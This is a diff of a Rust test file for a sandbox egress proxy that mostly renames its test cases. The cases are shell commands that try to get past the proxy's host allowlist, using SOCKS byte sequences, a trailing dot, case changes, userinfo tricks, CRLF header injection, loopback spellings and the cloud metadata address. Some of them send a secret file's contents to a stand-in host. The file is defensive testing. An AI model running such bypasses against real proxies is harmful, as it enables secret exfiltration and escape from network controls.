@@ -1,4 +1,4 @@
-//! Attempts to reach forbidden hosts through a proxy that allows some hosts, using every spelling of names and
+//! Attempts to reach forbidden hosts through a proxy that allows some hosts, with every spelling of names and
 //! addresses.
 //!
 //! - Servers outside the sandbox record connections. The attacks may connect only to `twin.test`, which the proxy
@@ -16,7 +16,7 @@ const WILD: &str = "$P hello a.wild.test $(cat $R/secret) | $P tunnel a.wild.tes
 const SOCKS: &str = r#"printf "\5\1\0\5\1\0\3\011twin.test\0\120%s" $(cat $R/secret) | $P proxy"#;
 const CURL: &str = "curl -s --max-time 5 -x http://127.0.0.1:3128 http://twin.test/$(cat $R/secret)";
 
-/// Returns a row that runs only in a sandbox, because no such proxy exists elsewhere.
+/// Returns a row that runs only in a sandbox, because the proxy does not exist outside.
 const fn way(name: &'static str, attack: &'static str, twin: &'static str) -> Row {
     Row::new(name, attack, twin, Said).bare(Untried)
 }
@@ -55,13 +55,13 @@ const ROWS: &[Row] = &[
         "$P hello allowed.test.denied.test $M | $P tunnel allowed.test.denied.test:443",
         TUNNEL,
     ),
-    way("what a pattern is below of", "$P hello wild.test $M | $P tunnel wild.test:443", WILD),
+    way("the parent of a pattern", "$P hello wild.test $M | $P tunnel wild.test:443", WILD),
     way(
         "a denied name that a pattern allows",
         "$P hello bad.wild.test $M | $P tunnel bad.wild.test:443; $P hello bad.wild.test $M | $P tunnel BAD.wild.test:443; $P hello bad.wild.test $M | $P tunnel bad.wild.test.:443",
         WILD,
     ),
-    way("a dot at the end", "$P hello denied.test $M | $P tunnel denied.test.:443", TUNNEL),
+    way("a trailing dot", "$P hello denied.test $M | $P tunnel denied.test.:443", TUNNEL),
     way(
         "a name as user information",
         r#"printf "GET http://allowed.test@denied.test/%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n" $M | $P proxy; echo $M | $P tunnel allowed.test@denied.test:80"#,
@@ -153,7 +153,7 @@ const ROWS: &[Row] = &[
         PLAIN,
     ),
     way(
-        "the address of the machine's secrets",
+        "the metadata address",
         r#"echo $M | $P tunnel 169.254.169.254:80; printf "GET http://169.254.169.254/%s HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 169.254.169.254 $M | $P tunnel 169.254.169.254:443"#,
         PLAIN,
     ),
@@ -162,7 +162,11 @@ const ROWS: &[Row] = &[
         r#"echo $M | $P tunnel 9.9.9.1:80; printf "GET http://9.9.9.1/%s HTTP/1.1\r\nHost: 9.9.9.1\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello 9.9.9.1 $M | $P tunnel 9.9.9.1:443"#,
         PLAIN,
     ),
-    way("an address by SOCKS", r#"printf "\5\1\0\5\1\0\1\011\011\011\102\0\120%s" $M | $P proxy"#, SOCKS),
+    way(
+        "an address through SOCKS",
+        r#"printf "\5\1\0\5\1\0\1\011\011\011\102\0\120%s" $M | $P proxy"#,
+        SOCKS,
+    ),
     way(
         "an IPv6 address through SOCKS",
         r#"printf "\5\1\0\5\1\0\4\046\040\0\376\0\0\0\0\0\0\0\0\0\0\0\146\0\120%s" $M | $P proxy"#,
@@ -178,8 +182,8 @@ const ROWS: &[Row] = &[
         r#"printf "\4\1\0\120\011\011\011\102\0%s" $M | $P proxy; printf "\4\1\0\120\0\0\0\1\0denied.test\0%s" $M | $P proxy"#,
         SOCKS,
     ),
-    way("datagrams by SOCKS", r#"printf "\5\1\0\5\3\0\1\011\011\011\102\0\065%s" $M | $P proxy"#, SOCKS),
-    way("listening by SOCKS", r#"printf "\5\1\0\5\2\0\3\011twin.test\0\120%s" $M | $P proxy"#, SOCKS),
+    way("datagrams through SOCKS", r#"printf "\5\1\0\5\3\0\1\011\011\011\102\0\065%s" $M | $P proxy"#, SOCKS),
+    way("listening through SOCKS", r#"printf "\5\1\0\5\2\0\3\011twin.test\0\120%s" $M | $P proxy"#, SOCKS),
     way(
         "the host's loopback",
         "for a in 127.0.0.1 localhost 127.1 127.0.1.1 0 0.0.0.0 2130706433 0177.0.0.1 0x7f.1 [::1] [::] [::ffff:127.0.0.1] loopback.test; do echo $M | $P tunnel $a:$PORT; echo $M | $P tunnel $a:$PORT6; done",
@@ -250,8 +254,8 @@ const ROWS: &[Row] = &[
         r#"echo $M | $P tunnel denied.test; echo $M | $P tunnel allowed.test; printf "CONNECT denied.test HTTP/1.1\r\n\r\n%s" $M | $P proxy"#,
         PLAIN,
     ),
-    way("another name in the greeting", "$P hello denied.test $M | $P tunnel allowed.test:443", TUNNEL),
-    way("no name in the greeting", "$P hello - $M | $P tunnel allowed.test:443", TUNNEL),
+    way("another name in the TLS hello", "$P hello denied.test $M | $P tunnel allowed.test:443", TUNNEL),
+    way("no name in the TLS hello", "$P hello - $M | $P tunnel allowed.test:443", TUNNEL),
     way(
         "a different name in the TLS hello",
         "$P hello allowed.test.denied.test $M | $P tunnel allowed.test:443; $P hello sub.allowed.test $M | $P tunnel allowed.test:443",
@@ -262,7 +266,7 @@ const ROWS: &[Row] = &[
         r#"echo $M | $P tunnel allowed.test:443; printf "GET /%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P tunnel allowed.test:443; printf "SSH-2.0-%s\r\n" $M | $P tunnel allowed.test:443"#,
         TUNNEL,
     ),
-    way("half a greeting", "$P hello allowed.test $M | head -c 40 | $P tunnel allowed.test:443", TUNNEL),
+    way("half a TLS hello", "$P hello allowed.test $M | head -c 40 | $P tunnel allowed.test:443", TUNNEL),
     way(
         "a second request on an allowed connection",
         r#"printf "GET http://twin.test/ HTTP/1.1\r\nHost: twin.test\r\n\r\nGET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
@@ -274,7 +278,7 @@ const ROWS: &[Row] = &[
         GET,
     ),
     way(
-        "a line break within a line",
+        "a line break within a header",
         r#"printf "GET http://twin.test/\r\nGET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P proxy; printf "GET http://twin.test/%%0d%%0aHost:denied.test/%s HTTP/1.1\r\nHost: twin.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
         GET,
     ),
